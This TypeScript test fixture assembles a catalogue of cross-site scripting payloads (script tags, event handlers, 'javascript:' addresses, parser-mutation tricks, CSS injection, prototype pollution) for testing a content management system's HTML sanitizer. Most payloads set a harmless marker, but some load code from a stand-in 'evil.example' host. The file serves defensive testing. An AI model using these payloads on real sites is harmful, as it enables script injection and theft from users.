import {
  backgroundImages,
  banner,
  block,
  button,
  contentType,
  escapeHtml,
  heading,
  html,
  image,
  row,
  text,
} from '../fixtures/markup.ts';
import { faq, map, tabs, tintup, video } from '../fixtures/markup-widgets.ts';

/** Content that tries to execute a script. Each script sets `window.__executed`. */
export interface Attack {
  name: string;
  html: string;
}

const run = 'window.__executed=1';
const picture = `<img src=x onerror="${run}">`;

const elements: Record<string, string> = {
  'script element': `<script>${run}</script>`,
  'script in odd case with a slash': `<ScRiPt/x>${run}</sCrIpT >`,
  'script that is never closed': `<script>${run}//`,
  'script in two halves': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'module script': `<script type="module">${run}</script>`,
  'script from a data address': `<script src="data:text/javascript,${run}"></script>`,
  'script in a drawing': `<svg><script>${run}</script></svg>`,
  'script in a drawing, self-closed address': `<svg><script href="data:text/javascript,${run}" /></svg>`,
  'frame with its own document': `<iframe srcdoc="<script>parent.__executed=1</script>"></iframe>`,
  'frame with a script address': `<iframe src="javascript:parent.__executed=1"></iframe>`,
  'frame with a data page': '<iframe src="data:text/html,<script>parent.__executed=1</script>"></iframe>',
  'object with a data page': '<object data="data:text/html,<script>parent.__executed=1</script>"></object>',
  'embed with a script address': `<embed src="javascript:${run}">`,
  'refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'base that turns links into scripts': `<base href="javascript:/a/-${run}//"><a href="#">x</a>`,
  'import of a sheet': `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${run})}">`,
  'template with a shadow tree': `<div><template shadowrootmode="open">${picture}</template></div>`,
  'form that posts to a script': `<form action="javascript:${run}"><button>x</button></form>`,
  'button that posts to a script': `<form><button formaction="javascript:${run}">x</button></form>`,
  'frame set': `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  'custom element with a handler': `<x-y onfocus="${run}" tabindex="0" autofocus>x</x-y>`,
};

const handlers: Record<string, string> = Object.fromEntries(
  [
    ['img', 'src=x onerror'],
    ['img', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload'],
    ['body', 'onload'],
    ['div', 'onclick'],
    ['div', 'onmouseover'],
    ['p', 'onpointerenter'],
    ['details', 'open ontoggle'],
    ['video', 'src=x onerror'],
    ['audio', 'src=x onerror'],
    ['video', 'autoplay src=x onloadstart'],
    ['a', 'href="#" onclick'],
    ['a', 'tabindex=1 onfocus'],
    ['span', 'contenteditable onfocus'],
    ['input', 'autofocus onfocus'],
    ['marquee', 'onstart'],
    ['svg', 'onload'],
    ['table', 'onanimationstart'],
    ['figure', 'oncontentvisibilityautostatechange'],
    ['iframe', 'onload'],
    ['p', 'ONCLICK'],
    ['p', 'x=1/onclick'],
    ['h2', 'onbeforeinput'],
    ['div', 'style="animation:x" onanimationstart'],
    ['button', 'popovertarget=x onbeforetoggle'],
  ].map(([element = '', attributes = '']) => [
    `handler ${attributes} on ${element}`,
    `<${element} ${attributes}="${run}">x</${element}>`,
  ]),
);

const addresses: Record<string, string> = Object.fromEntries(
  [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    'java\nscript:',
    'java&#x0A;script:',
    '&#106;avascript:',
    '&#0000106avascript:',
    'javascript&colon;',
    '\u0001javascript:',
    'javascript\u200b:',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'data:text/html,<script>parent.__executed=1</script>',
    'vbscript:',
    'javascript://%0A',
  ].flatMap((scheme) => [
    [`link to ${JSON.stringify(scheme)}`, `<a href="${scheme}${run}">x</a>`],
    [`picture from ${JSON.stringify(scheme)}`, `<img src="${scheme}${run}">`],
  ]),
);

const mutations: Record<string, string> = {
  'picture in the title of an element that a parser leaves': `<noscript><p title="</noscript>${escapeHtml(picture)}"></noscript>`,
  'style in math that ends in html': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escapeHtml(picture)}">`,
  'style in a drawing': `<svg><style><img title="</style>${escapeHtml(picture)}"></style></svg>`,
  'form in a form in math': `<form><math><mtext></form><form><mglyph><style></math>${picture}`,
  'title in a drawing': `<svg></p><title><a id="</title>${escapeHtml(picture)}"></title></svg>`,
  'text area that holds an end of itself': `<textarea><img title="</textarea>${escapeHtml(picture)}">`,
  'option that ends a select': `<select><option><style></option></select>${picture}</style>`,
  'comment that ends early': `<!--><img src=x onerror="${run}">-->`,
  'comment that ends with a bang': `<!-- --!><img src=x onerror="${run}"> -->`,
  'processing instruction': `<?xml ><img src=x onerror="${run}"> ?>`,
  'section of characters in a drawing': `<svg><![CDATA[><img src=x onerror="${run}">]]></svg>`,
  'foreign object': `<svg><foreignObject>${picture}</foreignObject></svg>`,
  'annotation in math': `<math><annotation-xml encoding="text/html">${picture}</annotation-xml></math>`,
  'table that throws its content out': `<table><script>${run}</script><a href="javascript:${run}">x</a>`,
  'attribute without a space before': `<img src="x"onerror="${run}">`,
  'quotes that look closed': `<img alt="x\`><img src=x onerror=${run}>" src=x onerror=${run}>`,
  'raw text element': `<xmp><img title="</xmp>${escapeHtml(picture)}"></xmp>`,
  'plain text': `<plaintext>${picture}`,
  'animation of an address': `<svg><a><animate attributeName="href" values="javascript:${run}" /><text y="9">x</text></a></svg>`,
  'use of a drawing': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x" /></svg>`,
  'deep nesting in front': `${'<div>'.repeat(600)}${picture}`,
  'zero characters in names': `<img src=x o\u0000nerror="${run}"><scr\u0000ipt>${run}</script>`,
};

const styles: Record<string, string> = {
  'expression in a style': `<p style="width:expression(${run})">x</p>`,
  'script address in a style': `<p style="background:url(javascript:${run})">x</p>`,
  'binding in a style': '<p style="-moz-binding:url(//evil.example/x#a);behavior:url(x.htc)">x</p>',
  'end of an attribute in a style': `<p style='color:red"><img src=x onerror=${run}>'>x</p>`,
  'end of a sheet in a rule': `<style>#html-body [data-pb-style=AAAAAA1]{color:red}</style><style>a{}</style>${picture}</style>${text('x', { 'data-pb-style': 'AAAAAA1' })}`,
  'markup in a rule': `<style>#html-body [data-pb-style=AAAAAA1]{background-color:"</style>${picture}"}</style>${text('<p data-pb-style="AAAAAA1">x</p>', { 'data-pb-style': 'AAAAAA1' })}`,
  'markup in a media query': `<style>@media </style>${picture}{#html-body [data-pb-style=AAAAAA1]{min-height:1px}}</style>${contentType('slider', { 'data-pb-style': 'AAAAAA1' })}`,
};

const code = `${picture}<script>${run}</script>`;

const contentTypes: Record<string, string> = {
  text: text(code),
  'hand-written markup': html(code),
  'hand-written markup, escaped twice': contentType('html', {}, escapeHtml(escapeHtml(code))),
  'hand-written markup, decoded': contentType('html', { 'data-decoded': 'true' }, code),
  'hand-written markup, never escaped': contentType('html', {}, code),
  'hand-written markup in text': text(html(code)),
  'hand-written markup in a block': block(html(code)),
  'hand-written markup in itself': html(html(code)),
  heading: heading(code),
  'heading on a script': `<script data-content-type="heading">${run}</script>`,
  'heading on a picture': `<img data-content-type="heading" src=x onerror="${run}">`,
  'content of a banner': banner({ content: code, legal: code, button: code }),
  'link of a banner': banner({ href: `javascript:${run}`, content: 'x' }),
  'film behind a banner': banner({
    content: 'x',
    attributes: { 'data-background-type': 'video', 'data-video-src': `javascript:${run}` },
  }),
  'film with a foreign player': video({ src: 'https://www.youtube.com.evil.example/embed/aqz-KE-bpKQ' }),
  'film with a script address': video({ src: `javascript:parent.__executed=1` }),
  'link of a button': button('x', 'primary', { href: `javascript:${run}` }),
  'link of a button that opens a block': button('x', 'primary', {
    href: `javascript:${run}`,
    linkType: 'block',
    title: code,
  }),
  'picture and its texts': image({
    desktop: `javascript:${run}`,
    mobile: `x" onerror="${run}`,
    alt: `"><script>${run}</script>`,
    caption: code,
    title: code,
    href: `javascript:${run}`,
  }),
  'sizes of a picture': image({ desktop: 'x', dimensions: `{"width":"1\\" onerror=\\"${run}","height":{}}` }),
  'picture behind a row': row('x', { desktop: `x");}</style>${picture}`, mobile: `javascript:${run}` }),
  'picture behind a row, not JSON': row('x', {
    attributes: { 'data-background-images': picture, 'data-video-overlay-color': `red;}</style>${picture}` },
  }),
  'prototype in JSON': row('x', {
    attributes: {
      'data-background-images': '{"__proto__":{"desktop_image":"x"},"constructor":{"prototype":{"polluted":1}}}',
    },
  }),
  'names of tabs': tabs([{ name: code, content: text(code) }]),
  'question and answer': faq([{ question: code, answer: code, image: `javascript:${run}`, alt: code }]),
  'places of a map': map([
    {
      location_name: code,
      address: code,
      comment: code,
      country: [code],
      position: { latitude: code, longitude: `"><script>${run}</script>` },
    },
  ]),
  'social wall': tintup('x', `data:text/javascript,${run}`),
  'social wall with code': contentType('tintup', { 'data-url': 'https://cdn.hypemarks.com@evil.example/a.js' }, code),
  'unknown content type': contentType('countdown', {}, code),
  'content type named after a property':
    contentType('__proto__', { 'data-appearance': 'constructor' }, code) + contentType('constructor', {}, code),
  'class of a content type': text('x', { class: `a"><img src=x onerror=${run}>` }),
  appearance: contentType('buttons', { 'data-appearance': `"><script>${run}</script>` }),
  'address in two layers of JSON': row('x', {
    attributes: { 'data-background-images': JSON.stringify(backgroundImages(`x'onerror='${run}`)) },
  }),
};

/** Attacks of every known class on HTML of a content management system, written for this project. */
export const attacks: readonly Attack[] = Object.entries({
  elements,
  handlers,
  addresses,
  mutations,
  styles,
  contentTypes,
}).flatMap(([group, list]) =>
  Object.entries(list).map(([name, markup]) => ({ name: `${group}: ${name}`, html: markup })),
);
